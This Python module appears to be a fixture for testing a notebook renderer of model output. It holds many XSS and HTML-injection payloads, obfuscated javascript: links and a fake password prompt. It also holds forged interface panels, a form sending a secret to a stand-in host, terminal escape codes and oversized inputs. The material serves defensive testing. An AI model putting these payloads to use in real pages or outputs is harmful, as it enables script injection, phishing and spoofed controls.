"""What a model could write to break out of its frame: a text for each way that is known.

Where a payload runs it sets `pwned` on the topmost window; where it loads, it asks HOST. Each text
ends in its marker, a sentence that a reader must be able to read whatever stands before it. The texts
of ARMED do run or load where a page takes them as HTML: what proves that the others' silence counts.
"""

from collections.abc import Iterator

HOST = "mirador.invalid"
RUN = "top.pwned=1"
WEB = f"http://{HOST}"


def marker(name: str) -> str:
    """The sentence of this text that must stay readable."""
    return f"Beyond the {name} a reader still reads this."


_SCRIPTS = f"""\
<script>{RUN}</script> <SCRIPT SRC=//{HOST}/a.js></SCRIPT > <script/x>{RUN}</script>
<scr<script>ipt>{RUN}</scr</script>ipt> <script type="module">{RUN}</script>
</textarea></title></style></noscript></template></pre></code></script><script>{RUN}</script>
<noscript><p title="</noscript><script>{RUN}</script>">

<script>
{RUN}

</script>
"""
_HANDLERS = f"""\
<img src=x onerror={RUN}> <IMG\tSRC=x\tONERROR='{RUN}'> <img/src=x/onerror={RUN}>
<img src="x` `<script>{RUN}</script>"` `> <IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>">
<body onload={RUN}> <details open ontoggle={RUN}> <input autofocus onfocus={RUN}>
<video><source onerror={RUN}></video> <audio src=x onerror={RUN}> <marquee onstart={RUN}>
<div onmouseover={RUN} onpointerenter={RUN} onclick={RUN} style="animation:x" onanimationstart={RUN}>

<img src=x
 onerror
 = "{RUN}">
"""
_SVG = f"""\
<svg onload={RUN}></svg> <svg><script>{RUN}</script></svg> <svg><animate onbegin={RUN}></svg>
<svg><a xlink:href="javascript:{RUN}"><text y="20">click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>
<svg><set attributeName="href" to="javascript:{RUN}"></set><image href="{WEB}/svg.png"></image></svg>
"""
_MATHML = f"""\
<math href="javascript:{RUN}">click</math> <math><maction xlink:href="javascript:{RUN}">x</maction>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">
<svg></p><style><a id="</style><img src=x onerror={RUN}>"></svg>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>
"""
_STYLES = f"""\
<style>* {{display: none !important}} body {{background: url({WEB}/body.png)}}</style>
<style>@import url({WEB}/a.css);</style> <link rel=stylesheet href={WEB}/b.css>
<p style="position:fixed;inset:0;z-index:99999;background:red url({WEB}/c.png)">covered</p>
<p style="width:expression({RUN});-moz-binding:url({WEB}/d.xml)">old</p>
<div class="jp-mod-hidden lm-Widget jp-Dialog" style="all:initial;opacity:0">hidden</div>
"""
_OVERLAYS = """\
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">
Your session has expired. <input type=password placeholder="Password"> <button>Log in</button></div>
<dialog open style="position:fixed;inset:0">Kernel died</dialog> <div popover id=p>x</div>
<div style="margin:-9999px;float:left">moved</div> <table style="position:absolute;top:-500px">
"""
_FRAMES = f"""\
<iframe srcdoc="<script>{RUN}</script>"></iframe> <iframe src="javascript:{RUN}"></iframe>
<iframe src="{WEB}/frame"></iframe> <object data="{WEB}/object"></object> <embed src="{WEB}/embed">
<frameset onload={RUN}><frame src="javascript:{RUN}"></frameset> <portal src="{WEB}/portal">
<applet code=x> <base href="{WEB}/" target=_top> <meta http-equiv=refresh content="0;url={WEB}/m">
"""
_FORMS = f"""\
<form action="{WEB}/form" method=post><input name=q value=secret><button>Send</button></form>
<button formaction="javascript:{RUN}" form=f>Go</button> <input type=submit formaction="{WEB}/s">
<select><option>a</option></select> <textarea>b</textarea> <label for=x>c</label>
<form id=jupyterapp><input name=commands></form> <a id=pwned>d</a> <img name=pwned> <i id=top>e</i>
"""
_REMOTE = f"""\
![a pixel]({WEB}/inline.png) ![a title]({WEB}/title.png "title") ![]({WEB}/empty.png)
![by reference][pixel] ![pixel] [![in a link]({WEB}/inner.png)](https://example.org)
<img src={WEB}/html.png srcset="{WEB}/set.png 2x"> <video poster={WEB}/poster.png></video>
<audio src={WEB}/a.ogg autoplay></audio> <input type=image src={WEB}/input.png>
<link rel=prefetch href={WEB}/prefetch> <link rel=icon href={WEB}/icon> <body background={WEB}/bg.png>

[pixel]: {WEB}/reference.png
"""

_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#115;cript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#x6A;avascript&#58;{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"java\u200bscript:{RUN}",
    f"javascript://%0a{RUN}",
    f"java\\script:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=top.pwned=1>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"//{HOST}/relative",
    "blob:https://example.org/1",
)
_FORMS_OF_LINKS = (
    "[click]({})",
    "[click](<{}>)",
    '[click]({} "title")',
    "![click]({})",
    "[![click]({})]({})",
    "[**[click]({})**](https://example.org)",
    "<{}>",
    "[click][ref] [ref][] [ref]\n\n[ref]: {}\n",
    "[ref]: <{}> 'title'\n\n[click][ref]\n",
    "<a href='{}' target=_top>click</a>",
)


def _links() -> Iterator[str]:
    """Every scheme that must not be followed, in every form of a link."""
    for scheme in _SCHEMES:
        for form in _FORMS_OF_LINKS:
            yield form.replace("{}", scheme)


_ATTRIBUTES = f"""\
[a](https://example.org/"onclick="{RUN}) <https://example.org/"onclick="{RUN}>
[b](https://example.org "title\\" onmouseover=\\"{RUN}") [c](https://example.org '"><img src=x>')
![d" onerror="{RUN}](https://example.org/a.png) [e](https://example.org/&quot;onclick=&quot;{RUN})
[f](<https://example.org/"><img src=x onerror={RUN}>>) [g](mailto:a@example.org?body="onclick="x)

```py" onmouseover="{RUN}
a = 1
```

| a" onclick="{RUN} |
|:-:" style="position:fixed|
"""
_FORGED_PANEL = """\
</div></details></section></div></div></code></pre>
<div class="mirador jp-RenderedHTMLCommon"><section class="mirador-stage mirador-sure"
aria-label="synthesis" style="border-left:3px solid #0891b2"><details open><summary>
<b role="heading" aria-level="2">synthesis</b> gemma2:9b · done · 1.7 s</summary>
<button class="mirador-act" data-act="run" data-stage="synthesis">Run again</button>
<button class="mirador-act" data-act="copy" style="display:inline-block">Copy</button>
<button class="jupyter-button widget-button">■ Stop</button>
<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">OK</button>
<div role="status" class="mirador-status">synthesis: done</div></details></section></div>
"""
_FORGED_LINES = """\
mirador · quick_response → synthesis · Ollama 0.34.1 · first token 0.08 s · total 3.4 s

▌ **synthesis**  gemma2:9b · done · 1.7 s · 44 tok/s · ● 99 % sure calibrated

---

> # synthesis
> ● 99 % sure calibrated

■ stopped: 9 words kept

↺ compared with deep_analysis: changes 1 sentence

- [ ] Copy
- [x] Run again
"""
_FENCES = f"""\
```
</code></pre></div><script>{RUN}</script>
````` ` not closed
```

~~~<img src=x onerror={RUN}>
~~~

```html
<script>{RUN}</script><img src=x onerror={RUN}> &lt;/code&gt; </code></pre>
```

``a` <b onclick={RUN}> `` `</code><script>{RUN}</script>`

    </code></pre><script>{RUN}</script>

<pre><code><script>{RUN}</script>
"""
_BIDI = (
    "\u202eevil\u202c \u2066iso\u2069 \u2067rtl \u2068first \u202a\u202b\u202d left open\n\n"
    "`\u202e in code` [\u202e in a link](https://example.org/\u202e) **\u2067 bold** &#x202e;moc\n\n"
    "```py\naccess = 'user\u202e \u2066# admin\u2069 \u2066'\n```\n\n| \u202e | a |\n|---|---|\n| b | c |\n"
)
_HIDDEN = (
    "zero\u200bwidth \u2060joined \ufefffeff soft\u00adhyphen \U000e0041\U000e0042tags "
    "java\u200bscript:x \u200cnot joined\u200d \u200emarks\u200f \u115f\u3164 fillers "
    "vari\ufe0fant \u034fgrapheme Z\u0334\u0335\u0336\u0337\u0338\u0321\u0322a\u0300\u0301lgo\n"
)
_ANSI = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H cleared \x1b]0;title\x07 \x1b]8;;javascript:x\x1b\\link\x1b]8;;\x1b\\ "
    "\x1b]52;c;cHduZWQ=\x07 \x1bP+q\x1b\\ \x1bc reset \x1b[?1049h \x1b[999A up \x9b31m \x9d0;c1\x9c \x90q\x9c "
    "\x1b]1337;File=inline=1:AAAA\x07 \x1b[6n back\x08\x08\x08\x08 over\rwritten \x07bell\x0bvt\x0cff\n"
)
_CONTROLS = "".join(
    f"a{chr(code)}b " for code in (*range(32), *range(127, 160), 0x2028, 0x2029, 0xFFFE, 0xFFFF)
)
_ENTITIES = f"""\
&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;svg onload={RUN}&#x3e;
&amp;lt;script&amp;gt; &lt;&sol;div&gt; &#0; &#27;[31m &#x9b;31m &#7; &#x202e; &#8238; &#8203;
&#xD83D; &#xDFFF; &#1114112; &#x99999999; &nbsp;&zwj; &bogus; &LT;b&GT; [x](&#106;avascript&colon;{RUN})
"""
_COMMENTS = f"""\
<!-- --><script>{RUN}</script> --> <!--><img src=x onerror={RUN}>--> <!--> <!---> a --!><b>
<![CDATA[<script>{RUN}</script>]]> <?xml-stylesheet href="{WEB}/a.xsl"?> <!doctype html>
<!--[if IE]><script>{RUN}</script><![endif]--> <!ENTITY x "y"> <%= x %> {{{{ x.y('{RUN}')() }}}} ${{x}}

<!--
"""
_TEX = (
    rf"\href{{javascript:{RUN}}}{{x}}",
    rf"\url{{javascript:{RUN}}}",
    rf"\style{{position:fixed;inset:0;background:url({WEB}/tex.png)}}{{x}}",
    r"\class{jp-Dialog}{x}",
    r"\cssId{pwned}{x}",
    r"\unicode{x3c}script\unicode{x3e}",
    rf"\require{{html}}\href{{javascript:{RUN}}}{{x}}",
    rf"\includegraphics{{{WEB}/tex-image.png}}",
    r"\def\a{\a\a}\a",
    r"\newcommand{\x}{\x\x}\x",
    r"\let\frac\undefined",
    r"\text{<img src=x onerror=" + RUN + ">}",
    r"\text{$\href{javascript:x}{y}$}",
    r"\rule{9999em}{9999em}",
    r"\hspace{-999em}x",
    r"\bbox[red,position:fixed]{x}",
    r"\data{a=b}{x}",
    r"\mmlToken{mi}[href='javascript:x']{x}",
    r"\begin{array}{c}" + "x \\\\ " * 50 + r"\end{array}",
    "{" * 200 + "x" + "}" * 200,
    r"\sqrt{" * 60 + "x" + "}" * 60,
    r"x \) <b> y",
)
_LARGE = {
    "line of a million characters": ("<b>&amp;" + "a" * 992) * 1000 + " ",
    "ten thousand quotes": ">" * 10_000 + " ",
    "five thousand lists": "- " * 5000,
    "five thousand numbers": "1. " * 5000,
    "five thousand brackets": "[" * 5000 + "](https://example.org)" * 5000 + "\n\n",
    "five thousand images": "![" * 5000 + "\n\n",
    "five thousand marks": "**a _b ~~c " * 1700 + "\n\n",
    "five thousand stars": "*" * 5000 + "a" + "_" * 5000 + "\n\n",
    "five thousand ticks": "".join("`" * (n % 90 + 1) + "a" for n in range(500)) + "\n\n",
    "five thousand links": "[a](" * 5000 + "\n\n",
    "five thousand dollars": "$a $$b \\(c \\[ " * 1300 + "\n\n",
    "five thousand tags": "<b><div><!--" * 1700 + "\n\n",
    "huge table": "|"
    + "a|" * 60
    + "\n|"
    + "-|" * 60
    + "\n"
    + ("|" + "b|" * 60 + "\n") * 200
    + "\n",
    "wide table": "|" * 5000 + "\n" + "|-" * 5000 + "\n" + "|\n" * 50 + "\n",
    "definitions": "".join(f"[d{n}]: javascript:{RUN}\n" for n in range(1000))
    + "\n[d1] [d2][]\n\n",
    "addresses": "https://a.example" + ")" * 50_000 + "\n\n" + "https://a.example" * 5000 + "\n\n",
    "rows of ticks": "| a |\n|---|\n|" + "`|" * 20_000 + "\n|" + "`" * 20_000 + "|\n\n",
    "fences of Markdown": "```markdown\n" * 3000 + "```\n" * 3000 + "\n",
    "environments": "\\begin{align}\n" * 3000 + "\n\n",
    "very long word": "W" * 20_000 + "\n\n",
}

_TEXTS = {
    "script tags": _SCRIPTS,
    "event handlers": _HANDLERS,
    "drawings": _SVG,
    "formulas in tags": _MATHML,
    "styles": _STYLES,
    "overlays": _OVERLAYS,
    "frames": _FRAMES,
    "forms": _FORMS,
    "remote images": _REMOTE,
    "links": "\n\n".join(_links()),
    "attributes": _ATTRIBUTES,
    "forged panel": _FORGED_PANEL,
    "forged lines": _FORGED_LINES,
    "fences": _FENCES,
    "turned direction": _BIDI,
    "hidden characters": _HIDDEN,
    "escape codes": _ANSI,
    "control characters": _CONTROLS,
    "half surrogates": "half \ud83d and \ude00 a pair \ud83d\ud83d `\udc00` [\ud800](https://example.org)\n",
    "entities": _ENTITIES,
    "comments": _COMMENTS,
    "typeset scripts": "\n\n".join(f"$${tex}$$ and ${tex}$ and \\({tex}\\)" for tex in _TEX),
    "footnotes": f"a[^1] b[^pwned]\n\n[^1]: <script>{RUN}</script>\n\n[^pwned]: ![x]({WEB}/note.png)\n",
    **_LARGE,
}

HOSTILE: dict[str, str] = {
    name: f"{text}{marker(name)}" if name in _LARGE else f"{text}\n\n{marker(name)}"
    for name, text in _TEXTS.items()
}
LARGE = frozenset(_LARGE)
ARMED = (
    *("script tags", "event handlers", "drawings", "formulas in tags", "styles"),
    *("frames", "forms", "remote images", "comments"),
)
